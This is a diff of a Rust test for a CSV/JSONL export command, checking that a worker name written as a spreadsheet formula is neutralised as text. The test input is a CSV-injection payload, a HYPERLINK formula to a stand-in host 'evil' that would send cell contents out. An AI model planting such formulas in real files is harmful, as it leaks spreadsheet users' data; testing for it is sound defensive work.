@@ -286,7 +286,9 @@ fn a_worker_named_as_a_formula_is_exported_as_text() {
     assert_eq!(rows.len(), 2, "{csv}");
     for row in rows {
         assert!(row.starts_with("\"-2,1 -1,2 1,2 2,1 2,-1 1,-2 -1,-2 -2,-1\",2,5,"), "the rule as it was: {row}");
-        assert!(row.ends_with(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",done"), "{row}");
+        // The worker's name, then its provenance (version, host, CPU, features), then the state.
+        assert!(row.contains(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\","), "{row}");
+        assert!(row.ends_with(",done"), "{row}");
     }
     // JSON is no spreadsheet: the name stays as the worker gave it.
     let jsonl = stdout(&ksweep(&["export", "--db", &db, "--format", "jsonl"]));
